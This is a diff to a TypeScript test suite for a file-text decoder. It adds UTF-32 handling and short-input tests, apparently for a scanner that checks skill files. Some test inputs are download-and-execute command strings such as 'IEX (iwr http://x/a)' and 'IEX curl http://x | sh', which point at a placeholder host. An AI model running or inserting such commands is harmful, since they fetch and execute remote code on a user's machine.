@@ -8,6 +8,12 @@ const SKILL =
 
 const utf16le = (text: string, bom = true) =>
   Buffer.concat([Buffer.from(bom ? [0xff, 0xfe] : []), Buffer.from(text, 'utf16le')]);
+const utf32le = (text: string) => {
+  const out = Buffer.alloc(4 * (text.length + 1));
+  let n = 0;
+  for (const ch of `\ufeff${text}`) out.writeUInt32LE(ch.codePointAt(0) ?? 0, 4 * n++);
+  return out.subarray(0, 4 * n);
+};
 const utf16be = (text: string) =>
   Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(text, 'utf16le').swap16()]);
 
@@ -38,6 +44,15 @@ describe('decodeFileText', () => {
     expect(decodeFileText(utf16le('a\r\nb é ✓ 😀'), MAX)).toBe('a\r\nb é ✓ 😀');
     expect(decodeFileText(utf16be('a\nb 😀'), MAX)).toBe('a\nb 😀');
     expect(decodeFileText(Buffer.from('\ufeff#!/bin/sh\n'), MAX)).toBe('#!/bin/sh\n');
+  });
+  it('should read UTF-32 with a BOM, either byte order', () => {
+    const text = 'iex $x\r\n😀 é';
+    const body = utf32le(text);
+    expect(decodeFileText(body, MAX)).toBe(text);
+    expect(decodeFileText(Buffer.from(body).swap32(), MAX)).toBe(text);
+    expect(
+      decodeFileText(Buffer.concat([body.subarray(0, 4), Buffer.from('ffffffff', 'hex')]), MAX),
+    ).toBeNull();
   });
   it('should not take an emoji split by the end of the head for binary', () => {
     const text = `${'x'.repeat(4095)}😀 and more`;
@@ -89,6 +104,10 @@ describe('decodeFileText', () => {
       ),
     ).toBeNull();
   });
+  it('should take files of a few bytes without failing', () => {
+    for (const bytes of [[0], [0xff, 0xfe], [0xff, 0xfe, 0], [0, 0, 0xfe], [0xfe, 0xff, 0, 0x41]])
+      expect(() => decodeFileText(Buffer.from(bytes), MAX)).not.toThrow();
+  });
   it('should bound UTF-16 text in characters, like UTF-8', () => {
     expect(decodeFileText(utf16le('x'.repeat(100)), 10)).toBe('x'.repeat(10));
   });
@@ -133,6 +152,7 @@ describe('UTF-16 files in a skill', () => {
       ['alternating.txt', Buffer.from(Buffer.alloc(mib + 1).map((_, i) => (i % 2 ? 0 : 0x41)))],
       ['regs.reg', utf16le(DEFENDER_REG.repeat(mib / 2 / DEFENDER_REG.length))],
       ['bom-nul.ps1', utf16le('\0'.repeat(mib / 2))],
+      ['utf32.ps1', utf32le('IEX (iwr http://x/a) '.repeat(mib / 4 / 21))],
       ['sparse-nul.sh', Buffer.from(`${'IEX curl http://x | sh\0\n'.repeat(mib / 24)}`)],
     ];
     for (const [path, content] of inputs) {
